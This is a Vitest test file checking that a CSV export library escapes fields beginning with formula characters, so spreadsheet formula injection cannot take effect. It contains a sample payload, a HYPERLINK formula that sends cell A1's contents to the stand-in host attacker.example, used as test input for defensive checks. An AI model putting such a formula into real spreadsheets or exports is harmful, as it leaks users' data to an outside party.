import { describe, expect, it } from 'vitest';
import { FORMULA_START, parseCsv, toCsv } from '../../src/lib/open-data/csv';
import { openDataFiles, type OpenDataName } from '../../src/schemas/open-data';

/** Every character OWASP's CSV injection guidance lists as the start of a formula. */
const LEADING = ['=', '+', '-', '@', '\t', '\r'];
const names = Object.keys(openDataFiles) as OpenDataName[];
const PAYLOAD = 'HYPERLINK("https://attacker.example/?x="&A1,"Click")';

describe('the CSV twins and formula injection', () => {
  for (const name of names) {
    const fields = Object.keys(openDataFiles[name].schema.shape);
    it.each(LEADING.map((char) => [JSON.stringify(char)] as const))(
      `${name}.csv: every text field starting with %s is written as text, never a formula`,
      (shown) => {
        const char = JSON.parse(shown) as string;
        const text = `${char}${PAYLOAD}`;
        const records = [
          Object.fromEntries(fields.map((field) => [field, text])),
          Object.fromEntries(fields.map((field) => [field, [text, 'second']])),
        ];
        const rows = parseCsv(toCsv(fields, records));
        expect(rows[0]).toEqual(fields);
        expect(rows[1]).toEqual(fields.map(() => `'${text}`));
        expect(rows[2]).toEqual(fields.map(() => `'${text}; second`));
        for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
      },
    );
  }

  it('leaves other text and numbers as they are, negative numbers included', () => {
    const csv = toCsv(
      ['text', 'start'],
      [
        { text: 'Lavrov said', start: -3 },
        { text: "'tis", start: 4 },
      ],
    );
    expect(csv).toBe('text,start\r\nLavrov said,-3\r\n"\'tis",4\r\n');
  });
});
